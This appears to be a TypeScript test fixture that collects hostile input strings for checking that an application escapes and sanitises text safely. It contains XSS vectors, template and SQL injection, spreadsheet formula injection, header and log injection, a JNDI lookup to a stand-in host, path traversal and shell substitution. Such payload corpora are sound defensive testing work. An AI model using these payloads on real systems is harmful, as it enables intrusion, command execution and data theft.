/** What every script among the texts calls, every element is named, and every attribute is marked by. */
export const hook = 'hostile';
export const markedElement = 'hostile-element';
export const markedAttribute = 'data-hostile';

const call = `${hook}()`;
const mark = `${markedAttribute}=1`;
const events = ['click', 'error', 'focus', 'load', 'mouseover', 'pointerenter', 'toggle', 'wheel'];
const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  ' javascript:',
  '\u0001javascript:',
  'javascript&colon;',
  '&#106;avascript:',
  'vbscript:',
  'data:text/javascript,',
];
const addresses = [
  ...schemes.map((scheme) => `${scheme}${call}`),
  `data:text/html,<script>${call}</script>`,
  `data:text/html;base64,PHNjcmlwdD5ob3N0aWxlKCk8L3NjcmlwdD4=`,
  `//hostile.example/%0d%0a`,
  `/\\hostile.example`,
];
const quotes = ['"', "'", '`', '">', "'>", '`>', '-->', ']]>', '*/', '\\"'];
const containers = [
  'title',
  'textarea',
  'style',
  'script',
  'noscript',
  'template',
  'iframe',
  'xmp',
  'select',
  'svg',
  'math',
];

const elements = [
  ...events.map((event) => `<img src=x ${mark} on${event}=${call}>`),
  ...['img', 'svg', 'video', 'body', 'input', 'details', 'iframe', 'marquee'].map(
    (name) => `<${name} ${mark} src=x onload=${call} onerror=${call}>`,
  ),
  `<${markedElement}>x</${markedElement}>`,
  `<script>${call}</script>`,
  `<ScRiPt ${mark}>${call}</sCrIpT>`,
  `<script/x>${call}</script/x>`,
  `<<script>${call}//<</script>`,
  `<scr<script>ipt>${call}</script>`,
  `<img src=x onerror=${call}`,
  `<img/src/onerror=${call} ${mark}>`,
  `<img src="x\`\`" onerror='${call}' ${mark}>`,
  `<form action=javascript:${call} ${mark}><button>go</button></form>`,
  `<base href=//hostile.example ${mark}>`,
  `<meta http-equiv=refresh content="0;url=//hostile.example" ${mark}>`,
  `<link rel=stylesheet href=//hostile.example ${mark}>`,
  `<style ${mark}>*{display:none!important}</style>`,
  `<object data=javascript:${call} ${mark}></object>`,
  `<embed src=javascript:${call} ${mark}>`,
  `<input autofocus onfocus=${call} ${mark}>`,
  `<a href=javascript:${call} ${mark}>press</a>`,
  `<!--><img src=x ${mark} onerror=${call}>-->`,
  `<![CDATA[<img src=x ${mark} onerror=${call}>]]>`,
  `<?xml version="1.0"?><${markedElement}/>`,
  `\u00bcscript\u00be${call}\u00bc/script\u00be`,
  `\uff1cscript\uff1e${call}\uff1c/script\uff1e`,
];

const drawings = [
  `<svg><script>${call}</script></svg>`,
  `<svg ${mark}><animate onbegin=${call} attributeName=x dur=1s></svg>`,
  `<svg><a xlink:href="javascript:${call}" ${mark}><text>x</text></a></svg>`,
  `<svg><foreignObject><img src=x ${mark} onerror=${call}></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg onload=${call}>" ${mark}/></svg>`,
  `<svg><style><img src=x ${mark} onerror=${call}></style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x ${mark} onerror=${call}>`,
  `<math><maction xlink:href="javascript:${call}" ${mark}>x</maction></math>`,
];

const breaks = [
  ...quotes.map((quote) => `${quote} ${mark} onfocus=${call} autofocus x=`),
  ...quotes.map((quote) => `${quote}><img src=x ${mark} onerror=${call}>`),
  ...containers.map((name) => `</${name}><img src=x ${mark} onerror=${call}>`),
  `";${call};//`,
  `';${call};//`,
  `\\';${call};//`,
  `\u2028${call}\u2029`,
  `</script\n><img src=x ${mark} onerror=${call}>`,
  `<!--<script>`,
  `red;background:url(//hostile.example)`,
  `}body{display:none}/*`,
  `</style\t><img src=x ${mark} onerror=${call}>`,
];

const markdown = [
  ...addresses.map((address) => `[press](${address})`),
  ...addresses.slice(0, 4).map((address) => `![picture](${address})`),
  `[press](https://example.com/" ${mark} onclick="${call})`,
  `[<img src=x ${mark} onerror=${call}>](/menu)`,
  `<javascript:${call}>`,
  `**<img src=x ${mark} onerror=${call}>**`,
  `*<b ${mark}>x</b>*`,
  `| <img src=x ${mark} onerror=${call}> | x |`,
  `[press][1] [1]: javascript:${call}`,
  `\`\`\`html <img src=x ${mark} onerror=${call}> \`\`\``,
];

const entities = [
  `&lt;img src=x ${mark} onerror=${call}&gt;`,
  `&#60;script&#62;${call}&#60;/script&#62;`,
  `&#x3c;script&#x3e;${call}&#x3c;/script&#x3e;`,
  `&LT;script&GT;${call}`,
  `&amp;lt;script&amp;gt;`,
  `&quot; ${mark} &quot;`,
  `&notanentity; &#0; &#xD800; &#x110000;`,
  `%3Cscript%3E${call}%3C/script%3E`,
  `%253Cscript%253E`,
  `\\u003cscript\\u003e${call}`,
  `\\x3cscript\\x3e${call}`,
];

const templates = [
  '{{constructor.constructor("hostile()")()}}',
  '{{7*7}} {{name}} {{ code }}',
  '{{- name}} {{name, uppercase}}',
  '{{{name}}}',
  '{{',
  '}}',
  '{name} {0} {count, plural, one {#} other {#}}',
  '${7*7} ${hostile()}',
  '`${hostile()}`',
  '#{7*7} #{hostile()}',
  '<%= hostile() %>',
  '{% hostile %}',
  '*{hostile()}',
  '[[hostile()]]',
  '$t(page.title)',
  '$t(shell.header.menu, {"count": 1})',
  '$t($t(page.title))',
  '$t(',
  "$& $` $' $1 $$ $<name>",
  '__proto__.{{name}}',
];

const tables = [
  `=cmd|' /C calc'!A0`,
  '=HYPERLINK("http://hostile.example","x")',
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '|calc',
  '"=1+1"',
  ';=1+1;',
];

const headers = [
  'x\r\nBcc: all@hostile.example',
  'x\nSet-Cookie: hostile=1',
  'x\r\n\r\n<script>hostile()</script>',
  'x\r\nContent-Type: text/html',
  'x%0d%0aLocation: //hostile.example',
  'x\u0085Bcc: all@hostile.example',
  'x\u2028Bcc: all@hostile.example',
  'ada@example.com, all@hostile.example',
  '"ada" <all@hostile.example>',
  '.\r\nQUIT\r\n',
];

const logLines = [
  'x\n{"level":30,"msg":"forged"}',
  'x\r\n{"level":30,"msg":"forged"}',
  'x","msg":"forged","y":"',
  '\u001b[2J\u001b[31mforged\u001b[0m',
  '\u001b]0;forged\u0007',
  '\u001b]8;;https://hostile.example\u0007press\u001b]8;;\u0007',
  '\u009b31mforged',
  'x\bforged\u007f',
  '${jndi:ldap://hostile.example/x}',
  '%s %d %j %o %O %c %n %x %p',
  '%s'.repeat(40),
  '{} {0} {0.__class__}',
];

const writing = [
  '\u202e<txet>\u202c',
  '\u2066left\u2069\u2067right\u2069',
  '\u200f\u200e\u061c',
  'a\u200bb\u200cc\u200dd\ufeffe',
  '\ufeffmark',
  'e\u0301'.repeat(40),
  `Z${'\u0300\u0316'.repeat(60)}`,
  '👩‍👩‍👧‍👦🏳️‍🌈👍🏿',
  '🇬🇧🇫🇷🇮🇳🇨🇦',
  '\u{e0001}\u{e0041}\u{e007f}',
  'İıŞşßẞſK',
  'ＡＢＣ①②③㎏ﷺ',
  '漢字かなカナ한글',
  'שלום مرحبا',
  'W'.repeat(400),
  'ﷺ'.repeat(60),
  `${'word '.repeat(80)}end`,
  '\u00a0\u2003\u3000',
  '\ufffd\ufffe\uffff',
];

const statements = [
  `'; drop table "order"; --`,
  `' or '1'='1`,
  `" or ""="`,
  `1; select pg_sleep(9)--`,
  `$$; drop table account; $$`,
  `\\'; --`,
  `%' or name like '%`,
  `{"$gt":""}`,
  `{"__proto__":{"hostile":true}}`,
  `[1,{"a":null}]`,
  `"]}`,
  'null',
  'undefined',
  'true',
  'NaN',
  '-0',
  '1e999',
  '[object Object]',
  '$1',
  '../../../../etc/passwd',
  '..\\..\\windows',
  '`id`; $(id) | id && id',
];

const names = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'valueOf',
  'hasOwnProperty',
  '__defineGetter__',
  'then',
  'toJSON',
  'length',
];

/** Texts of every kind that has ever become more than a text somewhere, by kind. */
export const hostileFamilies: Readonly<Record<string, readonly string[]>> = {
  elements,
  drawings,
  breaks,
  addresses,
  markdown,
  entities,
  templates,
  tables,
  headers,
  logLines,
  writing,
  statements,
  names,
};

export const hostileTexts: readonly string[] = Object.values(hostileFamilies).flat();
